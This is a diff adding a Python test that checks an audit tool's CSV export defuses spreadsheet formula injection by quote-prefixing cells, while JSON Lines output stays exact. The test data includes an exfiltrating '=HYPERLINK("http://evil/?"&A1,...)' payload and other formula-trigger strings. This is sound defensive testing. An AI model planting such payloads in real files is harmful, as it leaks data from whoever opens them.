@@ -260,6 +260,37 @@ def test_an_export_of_a_trail_holding_such_text_is_whole_and_verifies(
     assert code == 0, out_text + err
 
 
+FORMULAS = ['=HYPERLINK("http://evil/?"&A1,"x")', "+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx"]
+
+
+def test_a_csv_export_never_hands_a_spreadsheet_a_formula(data: str, tmp_path: Path) -> None:
+    """Outside trial: client-chosen tenant and app names went into CSV cells as they
+    were, and a spreadsheet ran `=HYPERLINK(...)` as a formula. CSV cells starting with
+    = + - @ TAB or CR are prefixed with a single quote (OWASP); JSON Lines stay exact."""
+    store = open_store(make_settings(Path(data).parent))
+    try:
+        store.append([NewRecord(tenant=value, app=value, decision="ALLOW",
+                                retain_until=FUTURE) for value in FORMULAS])
+    finally:
+        store.close()
+    table, lines = tmp_path / "out.csv", tmp_path / "out.jsonl"
+    assert cli("audit", "export", "--data-dir", data, "--format", "csv", "-o", str(table),
+               "--decision", "allow")[0] == 0
+    assert cli("audit", "export", "--data-dir", data, "-o", str(lines),
+               "--decision", "allow")[0] == 0
+    cells = [row for row in csv.DictReader(io.StringIO(table.read_bytes().decode(), newline=""))
+             if row["tenant"] != "acme"]
+    assert [(row["tenant"], row["app"]) for row in cells] == [("'" + v, "'" + v)
+                                                              for v in FORMULAS]
+    for row in csv.DictReader(io.StringIO(table.read_bytes().decode(), newline="")):
+        assert not any(str(v).startswith(("=", "+", "-", "@", "\t", "\r"))
+                       for v in row.values()), row
+    exact = [json.loads(line) for line in lines.read_text().splitlines()]
+    assert [r["tenant"] for r in exact if r["tenant"] != "acme"] == FORMULAS
+    key = cli("audit", "public-key", "--data-dir", data)[1].strip()
+    assert cli("audit", "verify-export", str(table), "--public-key", key)[0] == 0
+
+
 DEEP = "[" * 100000
 
 
